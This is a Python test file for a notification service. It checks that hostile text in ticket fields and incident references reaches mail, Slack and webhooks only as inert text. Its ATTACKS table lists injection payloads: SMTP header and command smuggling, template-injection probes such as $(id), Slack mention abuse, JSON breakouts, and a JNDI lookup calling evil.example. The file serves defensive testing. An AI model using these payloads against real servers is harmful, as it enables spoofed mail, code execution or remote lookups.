"""What strangers write, by class of attack, through the real senders to real servers: it arrives as text, and nowhere else.

Each value stands wherever a stranger's words can stand: in the number of a ticket (subjects of mails, lines of Slack and
webhooks), in names and in a resolution (bodies), in the reference of an incident.
"""

import base64
import hashlib
import hmac
import html
import json
import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, replace
from datetime import timedelta
from email import message_from_bytes
from email.policy import default
from pathlib import Path
from typing import Any

import pytest
from http_room import Asked, HttpRoom, http_room
from notifier_replica import Replica
from structlog.testing import capture_logs

from notifier.app import URGENT_PAUSE, channels
from notifier.domain.desk import Desk
from notifier.domain.templates import in_body, in_subject
from notifier.settings import NotifierSettings
from notifier.timers import Deliveries
from shared.directory import Directory
from shared.errors import InvalidMessage
from shared.runtime.database import Database
from shared.testing.time import FakeNow

MARK = "zq7"
"""Stands in every value, so that it is known wherever it gets to."""
BCC = f"Bcc: {MARK}"

ATTACKS: dict[str, list[str]] = {
    "headers": [
        f"a{line_end}{BCC}"
        for line_end in ("\r\n", "\n", "\r", "\n\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
    ]
    + [
        f"a\r\n\r\n<p>{MARK}</p>",
        f"a\r\n {BCC}",
        f"a\r\n.\r\nMAIL FROM:<{MARK}>\r\nRCPT TO:<{MARK}>\r\nDATA\r\n",
        f"a\n.\n{MARK}",
        f"a\r\nContent-Type: text/html; x={MARK}",
        f"a\r\nTo: {MARK}\r\nSubject: {MARK}",
        f"a%0d%0a{BCC}",
        f"a\\r\\n{BCC}",
        f"a嘊嘍{BCC}",
        f"{MARK}\n",
        f"\n{MARK}",
        f": {MARK}: x",
    ],
    "encoded words": [
        f"é =?UTF-8?Q?=0A?={BCC}",
        f"é =?UTF-8?Q?=0D=0ABcc:_{MARK}?=",
        f"é =?utf-8?b?{base64.b64encode(f'{chr(10)}{BCC}'.encode()).decode()}?= {MARK}",
        f"=?UTF-8?Q?{MARK}?=",
        f"=?UTF-8?Q?{MARK}?= =?UTF-8?Q?=0A?=",
        f"=?UTF-7?Q?+AAo-{MARK}?=",
        f"==?UTF-8?Q?=0A?=?= {MARK}",
        f"=?x\n?= é {MARK}",
    ],
    "characters": [
        f"a\x00{MARK}",
        f"a\x08{MARK}",
        f"a\x7f{MARK}",
        f"a\x9b31m{MARK}",
        f"\u202e{MARK}\u202c",
        f"\u2066{MARK}\u2069",
        f"\u200f{MARK}",
        f"\ufeff{MARK}",
        f"a\u200b{MARK}",
        f"{MARK}" + "\u0301" * 500,
        f"{MARK}\U0001f469\u200d\U0001f467",
        f"{MARK}\U0010ffff\ufffe",
        f"{MARK} " + "x" * 10_000,
        f"{MARK}" + "é" * 10_000,
        f"{MARK}\n" * 1_000,
        f"{MARK}" + " " * 1_000 + "x",
    ],
    "templates": [
        f"{open_}{inner}{close} {MARK}"
        for open_, inner, close in (
            ("{{", "7*7", "}}"),
            ("{{", "user_name", "}}"),
            ("{{", "''.__class__.__mro__", "}}"),
            ("{{", "config", "}}"),
            ("{%", " raise ", "%}"),
            ("{%", " endif ", "%}"),
            ("{%", " include 'page.txt' ", "%}"),
            ("{#", " x ", "#}"),
            ("${", "7*7", "}"),
            ("#{", "7*7", "}"),
            ("<%=", "7*7", "%>"),
            ("[", "User Name", "]"),
            ("#", "XXXXX", ""),
            ("%(", "user_name", ")s"),
            ("{", "user_name.__class__", "}"),
            ("$(", "id", ")"),
            ("`", "id", "`"),
            ("{{{{", "7", "}}}}"),
        )
    ],
    "slack": [
        f"<!channel> {MARK}",
        f"<!here|here> {MARK}",
        f"<!everyone> {MARK}",
        f"<!subteam^S1> {MARK}",
        f"<!date^1^{{date}}|{MARK}>",
        f"<@U1> {MARK}",
        f"<#C1|general> {MARK}",
        f"@channel @here {MARK}",
        f"<https://evil.example|{MARK}>",
        f"<mailto:x|{MARK}>",
        f"https://evil.example/{MARK}",
        f"&lt;!channel&gt; {MARK}",
        f"&amp;lt;!channel&amp;gt; {MARK}",
        f"&#60;!channel&#62; {MARK}",
        f"&<>& {MARK}",
        f"*bold* _it_ ~no~ `code` {MARK}",
        f"```{MARK}```",
        f"> {MARK}",
        f":rotating_light: {MARK}",
        f"[{MARK}](https://evil.example)",
    ],
    "json": [
        f'", "text": "{MARK}',
        f'"}}, "type": "other", "x": {{"y": "{MARK}',
        f'\\", "blocks": [], "x": "{MARK}',
        f"\\u0022{MARK}",
        f"\\{MARK}\\",
        f"]}}{MARK}",
        f"{MARK}\\ud800",
        f"v1,{MARK}= v1,x",
        f"msg_{MARK}.1614265330.{{}}",
        f"{MARK}.",
    ],
    "logs": [
        f"a\n2026-03-03T15:00:00Z [error] event={MARK}",
        f'a"}}\n{{"event": "{MARK}", "level": "error"}}',
        f"\x1b[31m{MARK}\x1b[0m",
        f"\x1b]0;{MARK}\x07",
        f"\x1b[2J{MARK}",
        f"\x08\x08{MARK}",
        f"%s %d %n {MARK}",
        f"{{0}} {{event}} {MARK}",
        f"${{jndi:ldap://evil.example/{MARK}}}",
        f"level=error msg={MARK}",
    ],
}
PLACES = ("number of the ticket", "name, character and resolution", "reference of an incident")
EVERY = [value for values in ATTACKS.values() for value in values]
SOON = timedelta(hours=1)
"""What is due later waits for its day, not for somebody's message."""
KEY = base64.b64decode("MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw")
EVERY_MAIL = {
    "Auto-Submitted", "Content-Type", "Date", "From", "In-Reply-To", "MIME-Version", "Message-ID", "References", "Reply-To",
    "Subject", "To", "X-Auto-Response-Suppress",
}  # fmt: skip
OF_SOME = {"Content-Language", "Content-Transfer-Encoding", "Precedence"}


def test_there_are_at_least_two_hundred_cases() -> None:
    assert len(EVERY) * len(PLACES) >= 200
    assert len(set(EVERY)) == len(EVERY)
    assert all(MARK in value for value in EVERY)


@dataclass
class Target:
    """A notifier with a mail server, a Slack and a webhook, all of which take everything."""

    replica: Replica
    mail: Any
    slack: HttpRoom
    hook: HttpRoom
    now: FakeNow

    async def settle(self) -> None:
        """Slack is handed one message a second, so seconds pass."""
        for _ in range(30):
            await self._send_what_is_due()
            if not await self.replica.value(
                f"select count(*) from notification where next_look_at < '{self.now() + SOON}'"
            ):
                return
            self.now.advance(seconds=1.1)
        raise AssertionError("the queue is blocked")

    async def _send_what_is_due(self) -> None:
        for way_out in (self.replica.pages, self.replica.mails):
            self.replica.woken.append(True)
            while self.replica.woken or way_out._under_way or way_out._finished:
                self.replica.woken.clear()
                for task in list(way_out._under_way):
                    await task
                if await way_out.look():
                    self.replica.woken.append(True)

    async def states(self) -> set[tuple[str, str | None]]:
        return {
            (row["state"], row["reason"]) for row in await self.replica.rows("select state, reason from notification")
        }

    def mails_to(self, address: str) -> list[Any]:
        return [one for one in self.mail.taken if one.rcpt_tos == [address]]


@pytest.fixture
async def target(
    database: Database, desk: Desk, now: FakeNow, room: Any, smtp_port: int, directory_file: Path
) -> AsyncIterator[Target]:
    async with AsyncExitStack() as opened:
        slack, hook = [await opened.enter_async_context(http_room()) for _ in range(2)]
        plain = desk.directory.model_dump(mode="json")
        plain["teams"]["customer_service"] |= {"slack": slack.url, "webhook": hook.url}
        directory = Directory.model_validate(plain)
        replica = Replica(database, replace(desk, directory=directory), now)
        settings = NotifierSettings.model_validate(
            {
                "kafka_bootstrap_servers": "k:9092",
                "database_url": "postgresql://d",
                "directory_file": directory_file,
                "smtp_url": f"smtp://127.0.0.1:{smtp_port}",
                "mail_from": "Storytailor Support <support@storytailor.example>",
                "mail_reply_to": "reply@storytailor.example",
                "webhook_secrets": [f"whsec_{base64.b64encode(KEY).decode()}"],
                "trusted_hosts": ["127.0.0.1"],
            }
        )
        replica.pages, replica.mails = (
            Deliveries(replica.units, channels(settings, now, 8, URGENT_PAUSE), urgent=urgent)
            for urgent in (True, False)
        )
        for lane in (replica.pages, replica.mails):
            opened.push_async_callback(lane._channels.close)
        yield Target(replica, room, slack, hook, now)


def the_mail(envelope: Any) -> Any:
    """Read as mail programs do, once its form is the one and only that was meant."""
    raw = envelope.content
    mail = message_from_bytes(raw, policy=default)
    assert envelope.mail_from == "support@storytailor.example"
    assert len(envelope.rcpt_tos) == 1
    assert mail.get_all("To") == envelope.rcpt_tos
    assert EVERY_MAIL <= set(mail.keys()) <= EVERY_MAIL | OF_SOME
    assert len(mail.keys()) == len(set(mail.keys()))
    assert [part.get_content_type() for part in mail.walk()] in (
        ["multipart/alternative", "text/plain", "text/html"],
        ["text/plain"],
    )
    for line in raw.partition(b"\r\n\r\n")[0].split(b"\r\n"):
        assert re.fullmatch(rb"([A-Za-z-]+:)? [\x20-\x7e]{0,990}", line)
    return mail


def text_of(mail: Any) -> str:
    part = mail.get_body(("plain",))
    return str(part.get_content()).replace("\r\n", "\n")


@pytest.mark.parametrize("kind", ATTACKS)
async def test_in_a_number_it_is_one_line_everywhere(target: Target, say: Any, kind: str) -> None:
    """28, SN-29: in the subjects of mails, in Slack and in webhooks; and whoever comes after it gets theirs."""
    with capture_logs() as logged:
        for at, value in enumerate(ATTACKS[kind]):
            requester = {"id": f"u-{at}", "email": f"u{at}@example.com"}
            await target.replica.hear(
                say.created(f"T-{at}", number=value, requester=requester), say.assigned("login", f"T-{at}")
            )
        await target.replica.hear(say.created("T-last", number="9"), say.assigned("login", "T-last"))
        await target.settle()
    assert await target.states() == {("sent", None)}
    assert len(target.mails_to("ada@example.com")) == 1
    assert len(target.mail.taken) == 2 * (len(ATTACKS[kind]) + 1)
    for at, value in enumerate(ATTACKS[kind]):
        (envelope,) = target.mails_to(f"u{at}@example.com")
        assert the_mail(envelope)["Subject"] == f"Re: [Ticket #{in_subject(value)}] Login"
    line = {f"{in_subject(f'[Ticket #{value}]')} A ticket is with your team" for value in [*ATTACKS[kind], "9"]}
    assert {the_mail(one)["Subject"] for one in target.mails_to("customer_service@staff.example")} == line
    assert {literally(asked) for asked in target.slack.asked} == line
    assert {verified(asked)["data"]["text"] for asked in target.hook.asked} == line
    assert MARK not in json.dumps(logged)


@pytest.mark.parametrize("kind", ATTACKS)
async def test_in_a_name_and_in_a_resolution_it_is_text_as_it_was_written(target: Target, say: Any, kind: str) -> None:
    """31, 34, HD-67: printed once, by both parts of the mail, and nowhere else."""
    with capture_logs() as logged:
        for at, value in enumerate(ATTACKS[kind]):
            requester = {"id": f"u-{at}", "name": value, "email": f"u{at}@example.com"}
            await target.replica.hear(
                say.created(f"T-{at}", requester=requester, ip={"id": "i", "character": value, "owner": value}),
                say.assigned("login", f"T-{at}"),
                say.resolved(f"T-{at}", summary=value),
            )
        await target.settle()
    assert await target.states() == {("sent", None), ("queued", None)}  # the question of some days later (T5)
    for at, value in enumerate(ATTACKS[kind]):
        first, second = [the_mail(one) for one in target.mails_to(f"u{at}@example.com")]
        assert all(in_body(value) in text_of(one) for one in (first, second))
        seen = html.unescape(re.sub(r"<[^>]*>", "", first.get_body(("html",)).get_content()))
        assert MARK in seen
    others = [one for one in target.mail.taken if one.rcpt_tos[0].endswith("@staff.example")]
    assert others
    assert not [one for one in [*(other.content for other in others), *said(target)] if MARK.encode() in one]
    assert MARK not in json.dumps(logged)


@pytest.mark.parametrize("kind", ATTACKS)
async def test_in_a_reference_it_is_nothing_and_the_page_goes_out(target: Target, say: Any, kind: str) -> None:
    """SN-28: the fallback stands there; one `To`, no other header, and other pages go out meanwhile."""
    refused: list[str] = []
    with capture_logs() as logged:
        for value in ATTACKS[kind]:
            try:
                await target.replica.hear(say.paged(f"SI-1{value}", roles=["primary"]))
            except InvalidMessage:  # at the edge, as no reference of anything
                refused.append(value)
            target.now.advance(minutes=6)  # so that each is said by itself
        await target.replica.hear(say.paged(roles=["primary"]))
        await target.settle()
    assert all(len(value) > 124 or re.search(r"[\x00-\x1f\x7f]", value) for value in refused)
    subjects = [the_mail(one)["Subject"] for one in target.mails_to("pat@staff.example")]
    fallbacks = ["[SI] Action needed now"] * (len(ATTACKS[kind]) - len(refused))
    assert sorted(subjects) == ["[SI-0A1B2C3D] Action needed now", *fallbacks]
    assert not [one for one in target.mail.taken if MARK.encode() in one.content]
    assert MARK not in json.dumps(logged)


@pytest.mark.parametrize("half", [0xD800, 0xDBFF, 0xDC00, 0xDFFF])
def test_half_a_character_is_refused_at_the_edge(say: Any, half: int) -> None:
    """It is no text: nobody could write, store or send it."""
    for event in (say.created, say.resolved):
        with pytest.raises(InvalidMessage):
            event(**{"number" if event == say.created else "summary": f"{MARK}{chr(half)}"})
    with pytest.raises(InvalidMessage):
        say.paged(f"SI-{MARK}{chr(half)}")


def said(target: Target) -> list[bytes]:
    return [asked.body for asked in (*target.slack.asked, *target.hook.asked)]


def literally(asked: Asked) -> str:
    """The line that Slack shows: plain text, without anything that Slack would make of it."""
    message = json.loads(asked.body, object_pairs_hook=without_doubles)
    assert message.keys() == {"text", "blocks", "mrkdwn", "link_names", "parse", "unfurl_links", "unfurl_media"}
    (block,) = message["blocks"]
    assert block == {"type": "section", "text": {"type": "plain_text", "text": block["text"]["text"], "emoji": False}}
    assert not set("<>") & set(message["text"])
    assert re.sub(r"&(amp|lt|gt);", "", message["text"]).find("&") == -1
    meant = message["text"].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert meant == block["text"]["text"]
    return meant


def verified(asked: Asked) -> Any:
    """What a receiver reads that knows the specification and not our library; one changed byte, and it does not."""
    of, at = asked.headers["webhook-id"], asked.headers["webhook-timestamp"]
    (signature,) = asked.headers["webhook-signature"].split(" ")
    assert at.isdecimal()
    assert re.fullmatch(r"[0-9a-f-]{36}", of)
    assert signature == signed(of, at, asked.body)
    changed = [
        (of + ".", at, asked.body),
        (of, at + "0", asked.body),
        (of, at, asked.body + b" "),
        (f"{of}.{at}", "", asked.body),
    ]
    assert signature not in [signed(*one) for one in changed]
    return json.loads(asked.body, object_pairs_hook=without_doubles)


def signed(message_id: str, at: str, body: bytes) -> str:
    digest = hmac.new(KEY, b".".join((message_id.encode(), at.encode(), body)), hashlib.sha256).digest()
    return f"v1,{base64.b64encode(digest).decode()}"


def without_doubles(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    assert len(dict(pairs)) == len(pairs)
    return dict(pairs)


def test_the_signature_is_that_of_the_specification() -> None:
    """The vector that the specification's own tests have."""
    made = signed("msg_p5jXN8AQM9LWM0D4loKWxJek", "1614265330", b'{"test": 2432232314}')
    assert made == "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="
